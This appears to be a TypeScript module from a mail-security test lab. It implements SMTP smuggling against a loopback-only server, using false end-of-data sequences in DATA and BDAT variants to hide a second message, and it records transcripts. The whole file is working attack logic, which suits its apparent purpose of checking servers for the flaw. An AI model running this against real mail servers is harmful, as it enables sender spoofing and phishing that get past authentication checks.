/** SMTP smuggling (2023): a client slips a second message in behind an end of content that is none. */
import type { Duplex } from "node:stream";
import type { Clock } from "../../base/index.ts";
import { legalEnd, type Smuggling } from "../../threats/index.ts";
import { loopbackOnly } from "../loopback.ts";
import type { Inbound, LabMail } from "../senders/types.ts";
import { SenderFault } from "./guarded.ts";
import { secondOf, type InboundPorts, type MailTo, type Strike } from "./inbound.ts";
import { transcriptLimits, type TranscriptLine } from "./transcript.ts";

export const smugglingLimits = {
  dialTimeoutMs: 10_000,
  replyTimeoutMs: 20_000,
  /**
   * So long is waited for a reply before the next part is written: each is a segment of its own, and who has taken a false end for the
   * end can say 354. Who has not is silent.
   */
  listenMs: 80,
} as const;

/** Rejects with an Error if nobody is at the door. `token` is the secret of what is slipped in. */
export async function strikeSmuggling(
  ports: InboundPorts,
  inbound: Inbound,
  { smuggling, mailTo, token }: { readonly smuggling: Smuggling; readonly mailTo: MailTo; readonly token: string },
): Promise<Strike> {
  const isCounted = smuggling.as === "bdat" || smuggling.as === "bdat-chunks";
  const legal = mailTo("legal", "legal");
  const calm: TranscriptLine[] = [];
  const legalParts = isCounted ? countedPair(legal) : pair(legal, legalEnd, "data", "");
  const legally = await handOver(ports, inbound, legal, legalParts, calm);
  const mail = mailTo("victim", "attack");
  const parts = isCounted ? counted(mail, smuggling, token) : pair(mail, smuggling.end, smuggling.as, token);
  const transcript: TranscriptLine[] = [];
  const attack = await handOver(ports, inbound, mail, parts, transcript);
  const idsIn = (replies: readonly string[]) => replies.flatMap((reply) => inbound.taken(reply) ?? []);
  return {
    ids: idsIn(attack),
    legalIds: idsIn(legally),
    otherwise: "returned",
    recipients: [mail.to],
    legally: { recipient: legal.to, sent: 2 },
    slippedIn: 0,
    strikes: 1,
    transcript,
    calm,
  };
}

/** What is written after the envelope of the first message, one write each; then a reply is waited for, for a moment. */
type Part = Buffer;

/** `first END MAIL RCPT DATA second CRLF.CRLF`. */
function pair(mail: LabMail, end: string, as: Smuggling["as"], token: string): readonly Part[] {
  const { envelope, content } = secondOf(mail, token);
  const first = octets(mail.content.replace(/\r\n$/, ""));
  const hidden = octets(`${envelope}DATA\r\n`);
  const ends = as === "split" ? [...end].map(octets) : [octets(end)];
  const parts = as === "split" ? [first, ...ends, hidden] : [Buffer.concat([first, ...ends, hidden])];
  return [octets("DATA\r\n"), ...parts, octets(`${content}${legalEnd}`)];
}

/** The same octets in chunks of BDAT, all of one message. */
function counted(mail: LabMail, { end, as }: Smuggling, token: string): readonly Part[] {
  const { envelope, content } = secondOf(mail, token);
  const first = mail.content.replace(/\r\n$/, "");
  const rest = `${envelope}DATA\r\n${content}${legalEnd}`;
  if (as === "bdat") return [chunk(`${first}${end}${rest}`, true)];
  return [chunk(first, false), ...[...end].map((octet) => chunk(octet, false)), chunk(rest, true)];
}

function countedPair(mail: LabMail): readonly Part[] {
  const { envelope, content } = secondOf(mail, "");
  return [Buffer.concat([chunk(mail.content, true), octets(envelope), chunk(`${content}\r\n`, true)])];
}

function chunk(text: string, isLast: boolean): Part {
  const content = octets(text);
  return Buffer.concat([octets(`BDAT ${content.length}${isLast ? " LAST" : ""}\r\n`), content]);
}

function octets(text: string): Buffer {
  return Buffer.from(text, "latin1");
}

/** Every reply from the first content on. */
async function handOver(
  { net, clock }: InboundPorts,
  { door }: Inbound,
  mail: LabMail,
  parts: readonly Part[],
  transcript: TranscriptLine[],
): Promise<readonly string[]> {
  const dialled = await loopbackOnly(net).dial(door, { timeoutMs: smugglingLimits.dialTimeoutMs });
  if (!dialled.ok) throw new SenderFault(`nobody takes mail at ${door.address} port ${door.port}: ${dialled.error}`);
  const { stream } = dialled.value;
  const replies = new Replies(clock, stream, (text) => note(transcript, "server", text));
  const say = (octetsSaid: Buffer): void => {
    note(transcript, "client", octetsSaid.toString("latin1"));
    stream.write(octetsSaid);
  };
  for (const command of ["", "EHLO client.example", `MAIL FROM:<${mail.from}>`, `RCPT TO:<${mail.to}>`]) {
    const before = replies.all.length;
    if (command !== "") say(octets(`${command}\r\n`));
    await replies.until((all) => all.length > before, smugglingLimits.replyTimeoutMs);
  }
  const before = replies.all.length;
  for (const [at, part] of parts.entries()) {
    if (replies.isOver) break;
    const heard = replies.all.length;
    say(part);
    if (at < parts.length - 1)
      await replies.until(
        (all) => all.length > heard && all.at(-1)?.startsWith("250") !== true,
        smugglingLimits.listenMs,
      );
  }
  if (!replies.isOver) say(octets("QUIT\r\n"));
  await replies.until((all) => all.at(-1)?.startsWith("221") === true, smugglingLimits.replyTimeoutMs);
  stream.destroy();
  return replies.all.slice(before);
}

/** With its line ends to be seen, where they are none. */
function note(transcript: TranscriptLine[], who: "client" | "server", text: string): void {
  for (const line of text.replace(/\r\n$/, "").split("\r\n")) {
    if (transcript.length >= transcriptLimits.linesMax) return;
    const shown = line.replace(/[\0\r\n]/g, (octet) => strayNames[octet] ?? "").replace(/[^\x20-\x7e]/g, ".");
    const isLong = shown.length > transcriptLimits.lineMaxChars;
    transcript.push({ who, text: isLong ? `${shown.slice(0, transcriptLimits.lineMaxChars)}...` : shown });
  }
}

const strayNames: Readonly<Record<string, string>> = { "\0": "<NUL>", "\r": "<CR>", "\n": "<LF>" };

/** Everything that a server says, a reply an entry. */
class Replies {
  readonly all: string[] = [];
  isOver = false;
  readonly #clock: Clock;
  #rest = "";
  #wake: () => void = () => {};

  constructor(clock: Clock, stream: Duplex, onReply: (text: string) => void) {
    this.#clock = clock;
    stream.on("error", () => {});
    stream.on("data", (bytes: Buffer) => {
      this.#rest += bytes.toString("latin1");
      for (;;) {
        const [whole] = /^(?:\d{3}-.*\r\n)*\d{3} .*\r\n/.exec(this.#rest) ?? [];
        if (whole === undefined) break;
        this.#rest = this.#rest.slice(whole.length);
        this.all.push(whole.trimEnd());
        onReply(whole);
      }
      this.#wake();
    });
    for (const ending of ["end", "close"]) {
      stream.on(ending, () => {
        this.isOver = true;
        this.#wake();
      });
    }
  }

  /** Or until the connection is over, or so much time is. */
  async until(isEnough: (all: readonly string[]) => boolean, withinMs: number): Promise<void> {
    const wait = { isOver: false };
    const timer = this.#clock.after(withinMs, () => {
      wait.isOver = true;
      this.#wake();
    });
    while (!isEnough(this.all) && !this.isOver && !wait.isOver) {
      await new Promise<void>((resolve) => (this.#wake = resolve));
    }
    timer.cancel();
  }
}
